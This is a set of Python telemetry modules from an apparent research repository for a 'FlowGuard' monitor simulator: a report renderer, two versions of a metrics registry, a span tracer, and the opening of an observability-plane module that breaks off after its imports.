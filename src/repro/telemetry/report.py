"""Self-contained run reports from sampler + flight-recorder dumps.

``repro report`` feeds one of three JSON payloads through here:

- a **plane dump** (:meth:`ObservabilityPlane.to_dict`, ``kind:
  "plane-dump"``),
- a **BENCH_observability.json** (the experiment's scenario pairs, each
  plane-attached scenario carrying its own plane dump),
- a **loadgen bench** payload (``kind: "loadgen-bench"``, from ``repro
  bench`` or ``experiments/loadgen.py``: throughput vs offered load
  with the SLO-knee callout and the search convergence trace), or
- a **StatsReport** v3+ (``schema_version`` present; the ``slo``
  section is rendered, the timeseries sections are skipped).

The renderer builds a neutral block model (headings, paragraphs,
tables, sparklines) and serializes it as GitHub-flavored markdown or a
standalone HTML page with inline CSS — no external assets, so the
output file travels whole.
"""

from __future__ import annotations

import html as _html
from typing import Dict, List, Optional, Sequence, Tuple

_SPARK = "▁▂▃▄▅▆▇█"

#: counter series charted in the timeseries section, by base name
#: (the busiest few; everything is still in the raw dump).
_CHART_LIMIT = 6


def sparkline(values: Sequence[float]) -> str:
    """Unicode sparkline of a series (empty string for no data)."""
    values = list(values)
    if not values:
        return ""
    low = min(values)
    high = max(values)
    span = high - low
    if span <= 0:
        return _SPARK[0] * len(values)
    return "".join(
        _SPARK[min(len(_SPARK) - 1,
                   int((v - low) / span * (len(_SPARK) - 1)))]
        for v in values
    )


# -- block model -------------------------------------------------------------

Block = Tuple  # ("heading", level, text) | ("para", text) | ("table", ...)


def _series_base(series: str) -> str:
    return series.partition("{")[0]


def _fmt(value) -> str:
    if isinstance(value, bool):
        return "yes" if value else "no"
    if isinstance(value, float):
        return f"{value:,.2f}"
    if value is None:
        return "-"
    return str(value)


def _slo_blocks(slo: dict, title: str = "SLO objectives") -> List[Block]:
    blocks: List[Block] = [("heading", 2, title)]
    rows = []
    for obj in slo.get("objectives", []):
        rows.append([
            obj["name"],
            obj["kind"],
            _fmt(obj["max_value"]),
            f"{obj['target']:.0%}",
            obj["windows"],
            obj["violations"],
            f"{obj['compliance']:.1%}",
            f"{obj['budget_burn']:.2f}",
            "met" if obj["met"] else "MISSED",
        ])
    blocks.append((
        "table",
        ["objective", "kind", "bound", "target", "windows", "violations",
         "compliance", "burn", "verdict"],
        rows,
    ))
    verdict = "all objectives met" if slo.get("met") \
        else f"objectives missed (total burn {slo.get('total_burn', 0):.2f})"
    blocks.append(("para", f"Overall: **{verdict}**."))
    breakdown_rows = []
    for obj in slo.get("objectives", []):
        for series, cell in (obj.get("breakdown") or {}).items():
            if cell["violations"]:
                breakdown_rows.append([
                    obj["name"], series, cell["windows"],
                    cell["violations"], _fmt(cell["worst"]),
                ])
    if breakdown_rows:
        blocks.append(("heading", 3, "Per-label breakdown (violating series)"))
        blocks.append((
            "table",
            ["objective", "series", "windows", "violations", "worst"],
            breakdown_rows,
        ))
    by_pid = slo.get("degradations_by_pid") or {}
    if by_pid:
        blocks.append(("heading", 3, "Degradations by process"))
        blocks.append((
            "table",
            ["kind/pid", "events"],
            [[k, v] for k, v in by_pid.items()],
        ))
    return blocks


def _timeseries_blocks(samples: Sequence[dict]) -> List[Block]:
    if len(samples) < 2:
        return []
    blocks: List[Block] = [("heading", 2, "Timeseries")]
    t0, t1 = samples[0]["t"], samples[-1]["t"]
    blocks.append((
        "para",
        f"{len(samples)} resident samples over virtual cycles "
        f"{t0:,.0f} – {t1:,.0f}.",
    ))
    # Busiest counters (by final total across series), charted as
    # per-window deltas.
    totals: Dict[str, float] = {}
    for series, value in samples[-1]["counters"].items():
        base = _series_base(series)
        totals[base] = totals.get(base, 0.0) + value
    top = sorted(totals, key=lambda b: -totals[b])[:_CHART_LIMIT]
    rows = []
    for base in top:
        cum = [
            sum(v for s, v in sample["counters"].items()
                if _series_base(s) == base)
            for sample in samples
        ]
        deltas = [b - a for a, b in zip(cum, cum[1:])]
        rows.append([base, _fmt(cum[-1]), sparkline(deltas)])
    overhead = [
        s["profile"]["total"] / s["t"] if s["t"] > 0 else 0.0
        for s in samples
    ]
    rows.append([
        "monitor cycles / virtual time", f"{overhead[-1]:.2%}"
        if overhead[-1] < 10 else _fmt(overhead[-1]), sparkline(overhead),
    ])
    blocks.append(("table", ["series", "final", "trend"], rows))
    return blocks


def _flight_blocks(flight: dict, dumps: Sequence[dict]) -> List[Block]:
    blocks: List[Block] = [("heading", 2, "Flight recorder")]
    counts = flight.get("counts") or {}
    if counts:
        blocks.append((
            "table",
            ["event kind", "count"],
            [[k, v] for k, v in counts.items()],
        ))
    else:
        blocks.append(("para", "No events recorded."))
    for index, dump in enumerate(dumps):
        blocks.append((
            "heading", 3,
            f"Dump {index + 1}: {dump['reason']} (t={dump['t']:,.0f})",
        ))
        tail = dump.get("events", [])[-10:]
        blocks.append((
            "table",
            ["seq", "t", "kind", "pid", "detail"],
            [[e["seq"], f"{e['t']:,.0f}", e["kind"], e["pid"], e["detail"]]
             for e in tail],
        ))
    return blocks


def _ablation_blocks(points: Sequence[dict]) -> List[Block]:
    if not points:
        return []
    return [
        ("heading", 2, "Ablation: psb_period × engine"),
        (
            "table",
            ["psb_period", "engine", "trace share", "decode share",
             "overhead", "checks"],
            [[p["psb_period"], p["engine"],
              f"{p['trace_share']:.1%}", f"{p['decode_share']:.1%}",
              f"{p['overhead']:.2%}", p["checks"]] for p in points],
        ),
    ]


def _plane_dump_blocks(dump: dict, heading_level: int = 2) -> List[Block]:
    blocks: List[Block] = []
    slo = dump.get("slo")
    if slo:
        blocks.extend(_slo_blocks(slo))
    blocks.extend(_timeseries_blocks(dump.get("samples", [])))
    blocks.extend(
        _flight_blocks(dump.get("flight") or {}, dump.get("dumps", []))
    )
    return blocks


def _loadgen_blocks(payload: dict, title: Optional[str]) -> List[Block]:
    """The ``repro bench`` report: throughput vs offered load, the
    SLO-knee callout, and the search convergence trace."""
    blocks: List[Block] = [
        ("heading", 1, title or "FlowGuard load-generation report"),
    ]
    scenario = payload.get("scenario") or {}
    if scenario:
        blocks.append((
            "para",
            f"Scenario `{scenario.get('name', '?')}`: "
            f"{scenario.get('mode', '?')}-loop over "
            f"{', '.join(scenario.get('servers', []))} "
            f"(mix `{scenario.get('mix', '?')}`, "
            f"{scenario.get('workers', '?')} workers, seed "
            f"{scenario.get('seed', '?')}); SLO p"
            f"{scenario.get('slo_percentile', 99):.0f} latency ≤ "
            f"{scenario.get('slo_latency', 0):,.0f} cycles.",
        ))
    gates = payload.get("gates") or {}
    if gates:
        blocks.append(("heading", 2, "Gates"))
        blocks.append((
            "table",
            ["gate", "result"],
            [[name, _fmt(ok)] for name, ok in gates.items()],
        ))
    sweep = payload.get("sweep") or []
    if sweep:
        blocks.append(("heading", 2, "Throughput vs offered load"))
        blocks.append((
            "table",
            ["connections", "offered", "done", "req/Mcycle", "p50",
             "p99", "overhead", "exact"],
            [[
                p["connections"],
                f"{p['offered_load']:,.1f}",
                p["completed"],
                f"{p['throughput']:,.2f}",
                f"{p['latency']['p50']:,.0f}",
                f"{p['latency']['p99']:,.0f}",
                f"{p['overhead']:.1%}",
                _fmt(p["accounting_exact"] and p["ledger_exact"]),
            ] for p in sweep],
        ))
        blocks.append((
            "para",
            "throughput `"
            + sparkline([p["throughput"] for p in sweep])
            + "`  p99 latency `"
            + sparkline([p["latency"]["p99"] for p in sweep])
            + "`",
        ))
    knee = payload.get("knee")
    search = payload.get("search") or {}
    callout = []
    if knee:
        callout.append(
            f"Saturation knee at **{knee['connections']} connections** "
            f"({knee['throughput']:,.2f} req/Mcycle)."
        )
    if search:
        if search.get("best_connections") is not None:
            callout.append(
                f"Max throughput under SLO: "
                f"**{search['max_throughput']:,.2f} req/Mcycle at "
                f"{search['best_connections']} connections** "
                f"({search['probes']} probes over "
                f"[{search['lower']}, {search['upper']}])."
            )
        else:
            callout.append(
                "Even the lower bound misses the SLO — no sustainable "
                "operating point."
            )
    if callout:
        blocks.append(("para", " ".join(callout)))
    trace = search.get("trace") or []
    if trace:
        blocks.append(("heading", 2, "SLO search convergence"))
        blocks.append((
            "table",
            ["probe", "connections", "latency", "met", "lower", "upper"],
            [[
                row["probe"], row["connections"],
                f"{row.get('latency', 0):,.0f}",
                _fmt(row["met"]), row["lower"], row["upper"],
            ] for row in trace],
        ))
    return blocks


def build_blocks(payload: dict, title: Optional[str] = None) -> List[Block]:
    """Payload (plane dump / BENCH / StatsReport) -> block model."""
    blocks: List[Block] = []
    if payload.get("kind") == "plane-dump":
        blocks.append(("heading", 1, title or "FlowGuard run report"))
        blocks.extend(_plane_dump_blocks(payload))
        return blocks
    if payload.get("kind") == "loadgen-bench":
        return _loadgen_blocks(payload, title)
    if "scenarios" in payload:  # BENCH_observability.json
        blocks.append((
            "heading", 1, title or "FlowGuard observability report",
        ))
        gates = payload.get("gates") or {}
        if gates:
            blocks.append(("heading", 2, "Gates"))
            blocks.append((
                "table",
                ["gate", "result"],
                [[name, _fmt(ok)] for name, ok in gates.items()],
            ))
        for name, row in payload["scenarios"].items():
            dump = row.get("plane_dump")
            if dump is None:
                continue
            blocks.append(("heading", 2, f"Scenario: {name}"))
            blocks.append((
                "para",
                f"{row['tasks']} checks, {len(row['quarantined'])} "
                f"quarantined, overhead {row['overhead']:.2%}, "
                f"digest `{row['digest'][:16]}`.",
            ))
            slo = dump.get("slo")
            if slo:
                blocks.extend(_slo_blocks(slo, title=f"SLO — {name}"))
            blocks.extend(_timeseries_blocks(dump.get("samples", [])))
            blocks.extend(_flight_blocks(
                dump.get("flight") or {}, dump.get("dumps", [])
            ))
        blocks.extend(_ablation_blocks(payload.get("ablation") or []))
        return blocks
    if "schema_version" in payload:  # StatsReport v3+
        blocks.append(("heading", 1, title or "FlowGuard stats report"))
        context = payload.get("context") or {}
        blocks.append((
            "para",
            "Context: " + (", ".join(
                f"{k}={v}" for k, v in context.items()
            ) or "unknown") + ".",
        ))
        slo = payload.get("slo")
        if slo:
            blocks.extend(_slo_blocks(slo))
        else:
            blocks.append(
                ("para", "No observability plane was attached to this run.")
            )
        return blocks
    raise ValueError(
        "unrecognized report payload: expected a plane dump, a "
        "BENCH_observability.json, a loadgen bench, or a StatsReport"
    )


# -- serializers -------------------------------------------------------------

def _render_markdown(blocks: Sequence[Block]) -> str:
    out: List[str] = []
    for block in blocks:
        kind = block[0]
        if kind == "heading":
            _, level, text = block
            out.append("#" * level + " " + text)
        elif kind == "para":
            out.append(block[1])
        elif kind == "table":
            _, headers, rows = block
            out.append("| " + " | ".join(map(str, headers)) + " |")
            out.append("|" + "|".join(" --- " for _ in headers) + "|")
            for row in rows:
                out.append("| " + " | ".join(map(str, row)) + " |")
        out.append("")
    return "\n".join(out).rstrip() + "\n"


_HTML_CSS = """
body { font-family: -apple-system, 'Segoe UI', sans-serif; margin: 2rem
       auto; max-width: 60rem; color: #1a1a2e; line-height: 1.5; }
h1 { border-bottom: 2px solid #4a4e69; padding-bottom: .3rem; }
h2 { border-bottom: 1px solid #c9cbd8; padding-bottom: .2rem; }
table { border-collapse: collapse; margin: .8rem 0; font-size: .92rem; }
th, td { border: 1px solid #c9cbd8; padding: .3rem .6rem;
         text-align: left; font-variant-numeric: tabular-nums; }
th { background: #f0f1f6; }
code { background: #f0f1f6; padding: .1rem .3rem; border-radius: 3px; }
"""


def _inline_html(text: str) -> str:
    """Escape, then re-apply the two markdown inlines the model uses."""
    escaped = _html.escape(text)
    for marker, tag in (("**", "strong"), ("`", "code")):
        while escaped.count(marker) >= 2:
            escaped = escaped.replace(marker, f"<{tag}>", 1)
            escaped = escaped.replace(marker, f"</{tag}>", 1)
    return escaped


def _render_html(blocks: Sequence[Block], title: str) -> str:
    body: List[str] = []
    for block in blocks:
        kind = block[0]
        if kind == "heading":
            _, level, text = block
            body.append(f"<h{level}>{_html.escape(text)}</h{level}>")
        elif kind == "para":
            body.append(f"<p>{_inline_html(block[1])}</p>")
        elif kind == "table":
            _, headers, rows = block
            cells = "".join(
                f"<th>{_html.escape(str(h))}</th>" for h in headers
            )
            body.append("<table><thead><tr>" + cells + "</tr></thead><tbody>")
            for row in rows:
                body.append("<tr>" + "".join(
                    f"<td>{_html.escape(str(c))}</td>" for c in row
                ) + "</tr>")
            body.append("</tbody></table>")
    return (
        "<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\">\n"
        f"<title>{_html.escape(title)}</title>\n"
        f"<style>{_HTML_CSS}</style></head>\n<body>\n"
        + "\n".join(body)
        + "\n</body></html>\n"
    )


def render_report(
    payload: dict,
    fmt: str = "markdown",
    title: Optional[str] = None,
) -> str:
    """Render a report payload as ``markdown`` or standalone ``html``."""
    blocks = build_blocks(payload, title=title)
    heading = next(
        (b[2] for b in blocks if b[0] == "heading"), "FlowGuard report"
    )
    if fmt == "markdown":
        return _render_markdown(blocks)
    if fmt == "html":
        return _render_html(blocks, heading)
    raise ValueError(f"unknown report format {fmt!r}")
