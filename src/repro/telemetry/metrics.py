"""Process-wide metrics registry: counters, gauges and histograms.

Every instrument supports labels, so one metric fans out into series —
``monitor.checks{path="fast"}`` and ``monitor.checks{path="slow"}`` are
two series of the same counter.  The registry is the single sink the
whole pipeline reports into; :meth:`MetricsRegistry.snapshot` renders it
as a plain JSON-compatible dict for the ``repro stats`` CLI, experiment
result files and the benchmark exports.

Instruments are no-ops while the registry is disabled, and hot paths
additionally guard the *call* behind ``telemetry.enabled`` so a disabled
run never even builds the label dict (the near-zero-overhead
requirement; see ``benchmarks/test_telemetry_overhead.py``).
"""

from __future__ import annotations

from typing import Dict, List, Optional, Sequence, Tuple

LabelKey = Tuple[Tuple[str, str], ...]

#: the percentile points every histogram summary exposes.
QUANTILES = (50, 95, 99)


def nearest_rank(ordered: Sequence[float], q: float) -> float:
    """Deterministic nearest-rank percentile over a *sorted* sequence.

    ``q`` is in [0, 100].  This is the one percentile definition the
    whole repo uses (histograms, fleet lag, the SLO engine), so a p99
    computed anywhere matches a p99 computed anywhere else on the same
    observations.
    """
    if not ordered:
        return 0.0
    rank = max(1, -(-int(q) * len(ordered) // 100))  # ceil without floats
    return ordered[min(rank, len(ordered)) - 1]


def percentile(values: Sequence[float], q: float) -> float:
    """Deterministic nearest-rank percentile of an *unsorted* sequence.

    Canonical home of the helper every reporting surface uses (the
    fleet result, the load tracker, the serving front-end); it simply
    sorts and defers to :func:`nearest_rank`.
    """
    return nearest_rank(sorted(values), q)


def series_name(name: str, labels: LabelKey) -> str:
    """Render ``name{k="v",...}`` — the stable series naming scheme."""
    if not labels:
        return name
    inner = ",".join(f'{key}="{value}"' for key, value in labels)
    return f"{name}{{{inner}}}"


def _label_key(labels: Dict[str, object]) -> LabelKey:
    return tuple(sorted((k, str(v)) for k, v in labels.items()))


class Counter:
    """Monotonically increasing value (events, bytes, cycles)."""

    __slots__ = ("name", "help", "_registry", "_series")

    def __init__(self, name: str, help: str, registry: "MetricsRegistry"
                 ) -> None:
        self.name = name
        self.help = help
        self._registry = registry
        self._series: Dict[LabelKey, float] = {}

    def inc(self, amount: float = 1.0, **labels: object) -> None:
        if not self._registry.enabled:
            return
        key = _label_key(labels)
        self._series[key] = self._series.get(key, 0.0) + amount

    def value(self, **labels: object) -> float:
        return self._series.get(_label_key(labels), 0.0)

    def total(self, **labels: object) -> float:
        """Sum across every labeled series.

        With labels given, only series carrying those exact label
        values are summed — ``total(tenant="acme")`` is the tenant's
        slice of a counter whose series also carry other labels
        (``kind``, ``server``, ...).
        """
        if not labels:
            return sum(self._series.values())
        want = set(_label_key(labels))
        return sum(
            value
            for key, value in self._series.items()
            if want <= set(key)
        )

    def reset(self) -> None:
        self._series.clear()


class Gauge:
    """Last-written value (sizes, ratios, configuration)."""

    __slots__ = ("name", "help", "_registry", "_series")

    def __init__(self, name: str, help: str, registry: "MetricsRegistry"
                 ) -> None:
        self.name = name
        self.help = help
        self._registry = registry
        self._series: Dict[LabelKey, float] = {}

    def set(self, value: float, **labels: object) -> None:
        if not self._registry.enabled:
            return
        self._series[_label_key(labels)] = float(value)

    def value(self, **labels: object) -> float:
        return self._series.get(_label_key(labels), 0.0)

    def reset(self) -> None:
        self._series.clear()


class Histogram:
    """Per-series summary with exact percentiles.

    Every observation is retained (this is a simulator — series are
    thousands of points, not billions), so ``summary`` reports *exact*
    nearest-rank p50/p95/p99 alongside count / sum / min / max — the SLO
    engine needs real tail percentiles, not min/mean/max bounds.
    """

    __slots__ = ("name", "help", "_registry", "_series", "_observations",
                 "_dirty")

    def __init__(self, name: str, help: str, registry: "MetricsRegistry"
                 ) -> None:
        self.name = name
        self.help = help
        self._registry = registry
        self._series: Dict[LabelKey, Dict[str, float]] = {}
        self._observations: Dict[LabelKey, List[float]] = {}
        self._dirty: set = set()

    def observe(self, value: float, **labels: object) -> None:
        if not self._registry.enabled:
            return
        key = _label_key(labels)
        cell = self._series.get(key)
        if cell is None:
            self._series[key] = {
                "count": 1, "sum": value, "min": value, "max": value,
            }
            self._observations[key] = [value]
            return
        cell["count"] += 1
        cell["sum"] += value
        if value < cell["min"]:
            cell["min"] = value
        if value > cell["max"]:
            cell["max"] = value
        self._observations[key].append(value)
        self._dirty.add(key)

    def _ordered(self, key: LabelKey) -> List[float]:
        obs = self._observations.get(key, [])
        if key in self._dirty:
            obs.sort()  # near-sorted in practice; Timsort is cheap here
            self._dirty.discard(key)
        return obs

    def percentile(self, q: float, **labels: object) -> float:
        """Exact nearest-rank percentile of this series (0 if empty)."""
        return nearest_rank(self._ordered(_label_key(labels)), q)

    def _summarize(self, key: LabelKey) -> Optional[Dict[str, float]]:
        cell = self._series.get(key)
        if cell is None:
            return None
        out = dict(cell)
        out["mean"] = out["sum"] / out["count"] if out["count"] else 0.0
        ordered = self._ordered(key)
        for q in QUANTILES:
            out[f"p{q}"] = nearest_rank(ordered, q)
        return out

    def summary(self, **labels: object) -> Optional[Dict[str, float]]:
        return self._summarize(_label_key(labels))

    def reset(self) -> None:
        self._series.clear()
        self._observations.clear()
        self._dirty.clear()


class MetricsRegistry:
    """Owns every instrument; one per :class:`repro.telemetry.Telemetry`."""

    def __init__(self, enabled: bool = False) -> None:
        self.enabled = enabled
        self._counters: Dict[str, Counter] = {}
        self._gauges: Dict[str, Gauge] = {}
        self._histograms: Dict[str, Histogram] = {}

    # -- instrument factories (memoized by name) ----------------------------

    def counter(self, name: str, help: str = "") -> Counter:
        inst = self._counters.get(name)
        if inst is None:
            inst = self._counters[name] = Counter(name, help, self)
        return inst

    def gauge(self, name: str, help: str = "") -> Gauge:
        inst = self._gauges.get(name)
        if inst is None:
            inst = self._gauges[name] = Gauge(name, help, self)
        return inst

    def histogram(self, name: str, help: str = "") -> Histogram:
        inst = self._histograms.get(name)
        if inst is None:
            inst = self._histograms[name] = Histogram(name, help, self)
        return inst

    # -- lifecycle -----------------------------------------------------------

    def reset(self) -> None:
        """Zero every series, keeping the registered instruments."""
        for group in (self._counters, self._gauges, self._histograms):
            for inst in group.values():
                inst.reset()

    def snapshot(self) -> Dict[str, Dict[str, object]]:
        """JSON-compatible dump of every non-empty series."""
        counters = {
            series_name(c.name, key): value
            for c in self._counters.values()
            for key, value in sorted(c._series.items())
        }
        gauges = {
            series_name(g.name, key): value
            for g in self._gauges.values()
            for key, value in sorted(g._series.items())
        }
        histograms = {}
        for h in self._histograms.values():
            for key in sorted(h._series):
                histograms[series_name(h.name, key)] = h._summarize(key)
        return {
            "counters": counters,
            "gauges": gauges,
            "histograms": histograms,
        }
