"""Process-wide metrics registry: counters, gauges and histograms.

Every instrument supports labels, so one metric fans out into series —
``monitor.checks{path="fast"}`` and ``monitor.checks{path="slow"}`` are
two series of the same counter.  The registry is the single sink the
whole pipeline reports into; :meth:`MetricsRegistry.snapshot` renders it
as a plain JSON-compatible dict for the ``repro stats`` CLI, experiment
result files and the benchmark exports.

Instruments are no-ops while the registry is disabled, and hot paths
additionally guard the *call* behind ``telemetry.enabled`` so a disabled
run never even builds the label dict (the near-zero-overhead
requirement; see ``benchmarks/test_telemetry_overhead.py``).
"""

from __future__ import annotations

from typing import Dict, Optional, Tuple

LabelKey = Tuple[Tuple[str, str], ...]


def series_name(name: str, labels: LabelKey) -> str:
    """Render ``name{k="v",...}`` — the stable series naming scheme."""
    if not labels:
        return name
    inner = ",".join(f'{key}="{value}"' for key, value in labels)
    return f"{name}{{{inner}}}"


def _label_key(labels: Dict[str, object]) -> LabelKey:
    return tuple(sorted((k, str(v)) for k, v in labels.items()))


class Counter:
    """Monotonically increasing value (events, bytes, cycles)."""

    __slots__ = ("name", "help", "_registry", "_series")

    def __init__(self, name: str, help: str, registry: "MetricsRegistry"
                 ) -> None:
        self.name = name
        self.help = help
        self._registry = registry
        self._series: Dict[LabelKey, float] = {}

    def inc(self, amount: float = 1.0, **labels: object) -> None:
        if not self._registry.enabled:
            return
        key = _label_key(labels)
        self._series[key] = self._series.get(key, 0.0) + amount

    def value(self, **labels: object) -> float:
        return self._series.get(_label_key(labels), 0.0)

    def total(self) -> float:
        """Sum across every labeled series."""
        return sum(self._series.values())

    def reset(self) -> None:
        self._series.clear()


class Gauge:
    """Last-written value (sizes, ratios, configuration)."""

    __slots__ = ("name", "help", "_registry", "_series")

    def __init__(self, name: str, help: str, registry: "MetricsRegistry"
                 ) -> None:
        self.name = name
        self.help = help
        self._registry = registry
        self._series: Dict[LabelKey, float] = {}

    def set(self, value: float, **labels: object) -> None:
        if not self._registry.enabled:
            return
        self._series[_label_key(labels)] = float(value)

    def value(self, **labels: object) -> float:
        return self._series.get(_label_key(labels), 0.0)

    def reset(self) -> None:
        self._series.clear()


class Histogram:
    """Streaming summary: count / sum / min / max per series."""

    __slots__ = ("name", "help", "_registry", "_series")

    def __init__(self, name: str, help: str, registry: "MetricsRegistry"
                 ) -> None:
        self.name = name
        self.help = help
        self._registry = registry
        self._series: Dict[LabelKey, Dict[str, float]] = {}

    def observe(self, value: float, **labels: object) -> None:
        if not self._registry.enabled:
            return
        key = _label_key(labels)
        cell = self._series.get(key)
        if cell is None:
            self._series[key] = {
                "count": 1, "sum": value, "min": value, "max": value,
            }
            return
        cell["count"] += 1
        cell["sum"] += value
        if value < cell["min"]:
            cell["min"] = value
        if value > cell["max"]:
            cell["max"] = value

    def summary(self, **labels: object) -> Optional[Dict[str, float]]:
        cell = self._series.get(_label_key(labels))
        if cell is None:
            return None
        out = dict(cell)
        out["mean"] = out["sum"] / out["count"] if out["count"] else 0.0
        return out

    def reset(self) -> None:
        self._series.clear()


class MetricsRegistry:
    """Owns every instrument; one per :class:`repro.telemetry.Telemetry`."""

    def __init__(self, enabled: bool = False) -> None:
        self.enabled = enabled
        self._counters: Dict[str, Counter] = {}
        self._gauges: Dict[str, Gauge] = {}
        self._histograms: Dict[str, Histogram] = {}

    # -- instrument factories (memoized by name) ----------------------------

    def counter(self, name: str, help: str = "") -> Counter:
        inst = self._counters.get(name)
        if inst is None:
            inst = self._counters[name] = Counter(name, help, self)
        return inst

    def gauge(self, name: str, help: str = "") -> Gauge:
        inst = self._gauges.get(name)
        if inst is None:
            inst = self._gauges[name] = Gauge(name, help, self)
        return inst

    def histogram(self, name: str, help: str = "") -> Histogram:
        inst = self._histograms.get(name)
        if inst is None:
            inst = self._histograms[name] = Histogram(name, help, self)
        return inst

    # -- lifecycle -----------------------------------------------------------

    def reset(self) -> None:
        """Zero every series, keeping the registered instruments."""
        for group in (self._counters, self._gauges, self._histograms):
            for inst in group.values():
                inst.reset()

    def snapshot(self) -> Dict[str, Dict[str, object]]:
        """JSON-compatible dump of every non-empty series."""
        counters = {
            series_name(c.name, key): value
            for c in self._counters.values()
            for key, value in sorted(c._series.items())
        }
        gauges = {
            series_name(g.name, key): value
            for g in self._gauges.values()
            for key, value in sorted(g._series.items())
        }
        histograms = {}
        for h in self._histograms.values():
            for key, cell in sorted(h._series.items()):
                cell = dict(cell)
                cell["mean"] = (
                    cell["sum"] / cell["count"] if cell["count"] else 0.0
                )
                histograms[series_name(h.name, key)] = cell
        return {
            "counters": counters,
            "gauges": gauges,
            "histograms": histograms,
        }
