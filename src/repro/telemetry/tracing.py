"""Span-based tracing: nested wall-clock timing with two export formats.

A :class:`Span` is one timed region.  Spans nest — the tracer keeps an
open-span stack, so a span started inside another records its parent —
and export either as JSON-lines (one span object per line) or as the
Chrome ``chrome://tracing`` / Perfetto trace-event format (complete
``"ph": "X"`` events, microsecond timestamps).

Spans always *measure*, even while tracing is disabled — callers like
``repro.experiments.table5`` read ``span.duration_s`` as their one
wall-clock code path — but they are only *retained* (and therefore
exported) while the tracer is enabled.  The retention buffer is capped;
overflow drops the oldest-finished spans and counts them in
``dropped``.
"""

from __future__ import annotations

import functools
import json
import time
from contextlib import contextmanager
from typing import Callable, Dict, Iterator, List, Optional


class Span:
    """One timed region; finished spans are immutable in practice."""

    __slots__ = ("name", "attrs", "span_id", "parent_id", "start_ns",
                 "end_ns")

    def __init__(
        self,
        name: str,
        span_id: int,
        parent_id: Optional[int],
        start_ns: int,
        attrs: Dict[str, object],
    ) -> None:
        self.name = name
        self.span_id = span_id
        self.parent_id = parent_id
        self.start_ns = start_ns
        self.end_ns: Optional[int] = None
        self.attrs = attrs

    @property
    def duration_ns(self) -> int:
        end = self.end_ns if self.end_ns is not None else time.perf_counter_ns()
        return end - self.start_ns

    @property
    def duration_s(self) -> float:
        return self.duration_ns / 1e9

    def as_dict(self, epoch_ns: int = 0) -> Dict[str, object]:
        return {
            "name": self.name,
            "id": self.span_id,
            "parent": self.parent_id,
            "start_us": (self.start_ns - epoch_ns) / 1000.0,
            "duration_us": self.duration_ns / 1000.0,
            "attrs": self.attrs,
        }


class Tracer:
    """Collects finished spans; one per :class:`repro.telemetry.Telemetry`."""

    def __init__(self, enabled: bool = False, max_spans: int = 100_000
                 ) -> None:
        self.enabled = enabled
        self.max_spans = max_spans
        self.spans: List[Span] = []
        self.dropped = 0
        self._stack: List[Span] = []
        self._next_id = 1
        self._epoch_ns = time.perf_counter_ns()

    # -- recording -----------------------------------------------------------

    @contextmanager
    def span(self, name: str, **attrs: object) -> Iterator[Span]:
        """Time a region; retain it (with nesting) when enabled."""
        retain = self.enabled
        span = Span(
            name,
            self._next_id,
            self._stack[-1].span_id if (retain and self._stack) else None,
            time.perf_counter_ns(),
            attrs,
        )
        if retain:
            self._next_id += 1
            self._stack.append(span)
        try:
            yield span
        finally:
            span.end_ns = time.perf_counter_ns()
            if retain:
                if self._stack and self._stack[-1] is span:
                    self._stack.pop()
                elif span in self._stack:  # pragma: no cover - defensive
                    self._stack.remove(span)
                self.spans.append(span)
                if len(self.spans) > self.max_spans:
                    overflow = len(self.spans) - self.max_spans
                    del self.spans[:overflow]
                    self.dropped += overflow

    def traced(self, name: Optional[str] = None) -> Callable:
        """Decorator form: ``@tracer.traced("phase.name")``."""

        def decorate(fn: Callable) -> Callable:
            span_name = name or f"{fn.__module__}.{fn.__qualname__}"

            @functools.wraps(fn)
            def wrapper(*args, **kwargs):
                with self.span(span_name):
                    return fn(*args, **kwargs)

            return wrapper

        return decorate

    # -- lifecycle -----------------------------------------------------------

    def reset(self) -> None:
        self.spans.clear()
        self._stack.clear()
        self.dropped = 0
        self._next_id = 1
        self._epoch_ns = time.perf_counter_ns()

    # -- export --------------------------------------------------------------

    def export_jsonl(self, path: str) -> int:
        """One finished span per line; returns the number written."""
        with open(path, "w", encoding="utf-8") as fh:
            for span in self.spans:
                fh.write(json.dumps(span.as_dict(self._epoch_ns)) + "\n")
        return len(self.spans)

    def chrome_events(self) -> List[Dict[str, object]]:
        """Finished spans as Chrome trace-event ``"X"`` records."""
        events = []
        for span in self.spans:
            events.append({
                "name": span.name,
                "ph": "X",
                "ts": (span.start_ns - self._epoch_ns) / 1000.0,
                "dur": span.duration_ns / 1000.0,
                "pid": 1,
                "tid": 1,
                "args": {str(k): v for k, v in span.attrs.items()},
            })
        return events

    def export_chrome(self, path: str) -> int:
        """Write a ``chrome://tracing``-loadable JSON file."""
        payload = {
            "traceEvents": self.chrome_events(),
            "displayTimeUnit": "ms",
        }
        with open(path, "w", encoding="utf-8") as fh:
            json.dump(payload, fh)
        return len(self.spans)
