"""The live observability plane: sampler + flight recorder + SLO engine.

PR 1's telemetry is post-mortem: one snapshot after the run.  This
module makes the monitor's own cost and health a *continuously
observed* signal, in the spirit of TitanCFI's separately-budgeted
root-of-trust monitor:

- :class:`TimeseriesSampler` — snapshots every registered metric series
  on a virtual-clock cadence (hooked into ``FleetClock`` ticks and
  ``Kernel.step``), ring-buffered, exportable as JSONL and Prometheus
  text exposition format.
- :class:`FlightRecorder` — a bounded structured journal of notable
  events (verdicts, fault injections, cache transitions, quarantines,
  dead letters, PSB re-syncs) that auto-dumps the last N events with
  surrounding timeseries context when a VIOLATION or a
  ledger-reconciliation failure occurs.
- :class:`SLOEngine` — declarative objectives (detection-latency p99,
  checker lag p99, monitor-cycle budget) evaluated over sampler
  windows, with error-budget accounting and per-label breakdowns
  reusing the ``DegradationLedger`` labels.
- :class:`ObservabilityPlane` — ties the three together and owns the
  hook surface the pipeline calls into.

Everything here *observes*; nothing charges simulated cycles or
perturbs verdicts — ``experiments/observability.py`` gates that an
instrumented run is bit-identical to an uninstrumented one.  The plane
also reconciles exactly: sampled profiler phases must equal the summed
``MonitorStats`` accumulators, and the flight recorder's per-kind
degradation tallies must equal both the ``resilience.events`` counter
and the :class:`~repro.resilience.ledger.DegradationLedger` counts
(:meth:`ObservabilityPlane.reconcile`; ``repro stats`` exits 1 on
drift).

Attach via :meth:`repro.telemetry.Telemetry.attach_plane`::

    tel = telemetry.get_telemetry()
    tel.reset()
    plane = ObservabilityPlane(interval=2000.0)
    tel.attach_plane(plane)         # also enables telemetry
    ... run ...
    report = plane.slo_report()
    audit = plane.reconcile(monitor.all_stats(), monitor.degradations)
    tel.detach_plane()
"""

from __future__ import annotations

import json
import math
from collections import deque
from dataclasses import dataclass, field
